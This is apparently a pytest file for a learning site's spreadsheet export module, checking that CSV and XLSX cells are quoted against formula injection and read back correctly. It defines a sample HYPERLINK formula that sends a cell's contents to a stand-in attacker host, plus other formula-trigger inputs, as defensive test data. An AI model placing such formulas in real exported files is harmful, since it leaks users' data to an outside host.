"""The shared cell rules of every CSV and XLSX the site writes (lms/spreadsheets.py)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

from django.utils.translation import gettext_lazy

import pytest
from openpyxl import Workbook, load_workbook

from common import spreadsheets

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A3)", "\t=1+1", "\r=1+1", "=1"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", [7, -3, 2.5, Decimal("-12.50"), date(2026, 5, 1), datetime(2026, 5, 1, 8), None]
)
def test_numbers_dates_and_empty_cells_are_left_alone(value):
    assert spreadsheets.neutralise(value) == value


@pytest.mark.parametrize("text", ["Nguyễn Thị Hằng", "Huyện Ninh Phước", "50%", "1990", ""])
def test_ordinary_text_is_unchanged(text):
    assert spreadsheets.neutralise(text) == text


def test_objects_are_written_as_their_text_and_checked():
    assert spreadsheets.neutralise(gettext_lazy("=1+1")) == "'=1+1"


def test_reading_back_our_own_file_drops_the_quote_once():
    assert spreadsheets.restore(spreadsheets.neutralise(FORMULA)) == FORMULA
    assert spreadsheets.restore("'quoted on purpose") == "'quoted on purpose"
    assert spreadsheets.restore("Nguyễn Thị Hằng") == "Nguyễn Thị Hằng"


def test_csv_rows_are_neutralised_cell_by_cell():
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out)
    writer.writerow([FORMULA, "Nguyễn Thị Hằng", 1990, Decimal("85.50")])
    writer.writerows([["-5", None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'" + FORMULA, "Nguyễn Thị Hằng", "1990", "85.50"], ["'-5", ""]]


@pytest.mark.parametrize("write_only", [True, False])
def test_workbook_cells_hold_text_as_text_and_numbers_as_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Trang") if write_only else book.active
    spreadsheets.append(sheet, [FORMULA, "#N/A", "Nguyễn\x01 Thị Hằng", 42, Decimal("7.5")])
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "n", "n"]
    assert [cell.value for cell in cells] == ["'" + FORMULA, "#N/A", "Nguyễn Thị Hằng", 42, 7.5]
